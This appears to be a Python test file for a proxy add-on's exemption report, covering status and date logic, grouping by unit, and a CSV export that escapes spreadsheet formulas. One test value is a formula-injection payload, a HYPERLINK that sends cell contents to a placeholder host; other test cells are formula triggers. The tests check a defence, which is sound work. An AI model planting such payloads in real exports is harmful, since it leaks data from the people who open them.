from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from proxy_addons.standing import Exemption
from proxy_addons.standing.report import Section, as_csv, harmless, is_unused, report

if TYPE_CHECKING:
    from collections.abc import Mapping

NOW = datetime(2026, 11, 23, 9, 30, tzinfo=UTC)
TODAY = NOW.date()
DAY, INSTANT = timedelta(days=1), timedelta(microseconds=1)

LIVE = Exemption(
    id=1,
    reference="EX-2026-0001",
    revision=2,
    state="approved",
    person="jane",
    everything=False,
    categories=frozenset({"webmail", "chat"}),
    why="Open-source research.",
    force_reference=None,
    significant=False,
    escalated_to=None,
    requested_by="lee",
    requested_at=NOW - 70 * DAY,
    begins=NOW - 60 * DAY,
    ends=NOW + 60 * DAY,
    decided_by="sam",
    decided_at=NOW - 61 * DAY,
    review_at=NOW + DAY,
    reviewed_at=None,
    extension_ends=None,
    extension_why=None,
    extension_by=None,
    extension_at=None,
    revoked_by=None,
    revoked_at=None,
    expiry_noted_at=None,
)


def sections(exemption: Exemption, last_used: date | None = TODAY) -> set[str]:
    used = {} if last_used is None else {exemption.reference: last_used}
    (row,) = report([exemption], last_used=used, unit_of=lambda _: None, now=NOW).rows
    return set(map(str, row.sections))


@pytest.mark.parametrize(
    ("changes", "expected"),
    [
        ({}, {"live"}),
        ({"ends": NOW + 30 * DAY + INSTANT}, {"live"}),
        ({"ends": NOW + 30 * DAY}, {"live", "expiring"}),
        ({"ends": NOW + INSTANT}, {"live", "expiring"}),
        ({"ends": NOW}, {"expired"}),
        ({"begins": NOW}, {"live"}),
        ({"begins": NOW + INSTANT}, {"upcoming"}),
        ({"review_at": NOW + INSTANT}, {"live"}),
        ({"review_at": NOW}, {"live", "review-overdue"}),
        ({"review_at": NOW - DAY, "ends": NOW}, {"expired"}),
        ({"review_at": None}, {"live"}),
        ({"state": "requested"}, {"waiting"}),
        ({"state": "requested", "ends": NOW}, {"ended"}),
        ({"state": "refused"}, {"ended"}),
        ({"state": "revoked"}, {"ended"}),
        ({"extension_ends": NOW + 99 * DAY}, {"live", "waiting"}),
        ({"extension_ends": NOW + 99 * DAY, "ends": NOW}, {"expired"}),
    ],
)
def test_where_an_exemption_stands(changes: dict[str, Any], expected: set[str]) -> None:
    assert sections(replace(LIVE, **changes)) == expected


@pytest.mark.parametrize(
    ("begins", "decided", "last_used", "unused"),
    [
        (60, 61, None, True),
        (60, 61, 30, True),
        (60, 61, 29, False),
        (60, 61, 0, False),
        (30, 61, None, True),
        (29.99, 61, None, False),
        (60, 29.99, None, False),
        (60, 30, None, True),
    ],
)
def test_what_counts_as_unused(
    begins: float, decided: float, last_used: int | None, unused: bool
) -> None:
    each = replace(LIVE, begins=NOW - begins * DAY, decided_at=NOW - decided * DAY)
    day = None if last_used is None else TODAY - last_used * DAY
    assert is_unused(each, day, NOW) is unused
    assert (Section.UNUSED in sections(each, day)) is unused
    assert not is_unused(replace(each, state="revoked"), day, NOW)


def test_by_unit() -> None:
    units: Mapping[str, str | None] = {"jane": "Cyber", "john": "CID", "ann": None}
    asked: list[str] = []

    def unit_of(name: str) -> str | None:
        asked.append(name)
        return units[name]

    made = report(
        [
            LIVE,
            replace(LIVE, reference="EX-2", ends=NOW + DAY),
            replace(LIVE, reference="EX-3", person="john", state="requested"),
            replace(LIVE, reference="EX-4", person="ann"),
        ],
        last_used={"EX-2026-0001": TODAY, "EX-4": TODAY},
        unit_of=unit_of,
        now=NOW,
    )
    assert asked == ["jane", "john", "ann"]
    assert list(made.by_unit()) == ["CID", "Cyber", "unknown"]
    assert dict(made.by_unit()["Cyber"]) == {
        Section.LIVE: 2,
        Section.EXPIRING: 1,
        Section.UNUSED: 1,
    }
    assert [row.exemption.reference for row in made.section(Section.LIVE)] == [
        "EX-2",
        "EX-2026-0001",
        "EX-4",
    ]
    assert [row.exemption.reference for row in made.section(Section.WAITING)] == ["EX-3"]


def test_as_csv() -> None:
    each = replace(
        LIVE,
        why='=HYPERLINK("http://x.example/?"&A1),\n"quoted"',
        person="-jane",
        force_reference="@SUM(1)",
        everything=True,
        categories=frozenset({"malware"}),
    )
    rows = report([each], last_used={}, unit_of=lambda _: "+CID", now=NOW).rows
    text = as_csv(rows)
    assert text.endswith("\r\n")
    heads, cells = csv.reader(io.StringIO(text, newline=""))
    found = dict(zip(heads, cells, strict=True))
    assert found["why"] == "'" + each.why
    assert (found["person"], found["unit"]) == ("'-jane", "'+CID")
    assert found["force reference"] == "'@SUM(1)"
    assert found["opens"] == "everything, and malware"
    assert (found["begins"], found["ends"]) == ("2026-09-24T09:30:00Z", "2027-01-22T09:30:00Z")
    assert (found["notes"], found["last used"]) == ("unused", "")
    assert '\n""quoted"""' in text


@given(st.text(max_size=8), st.lists(st.text(max_size=6), max_size=3))
def test_csv_can_be_read_back_and_never_runs(name: str, whys: list[str]) -> None:
    rows = report(
        [replace(LIVE, person=name, why=why) for why in whys],
        last_used={},
        unit_of=lambda _: None,
        now=NOW,
    ).rows
    _, *read = csv.reader(io.StringIO(as_csv(rows), newline=""))
    assert [line[8] for line in read] == [harmless(why) for why in whys]
    for line in read:
        assert all(cell.lstrip()[:1] not in {"=", "+", "-", "@"} or not cell for cell in line)


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@x", "\t=1", "\r\n=1", " =1", "\uff1d1"])
def test_what_a_spreadsheet_would_run(cell: str) -> None:
    assert harmless(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", " ", "a=1", "EX-2026-0001", "2026-11-23", "'=1"])
def test_what_it_would_not(cell: str) -> None:
    assert harmless(cell) == cell
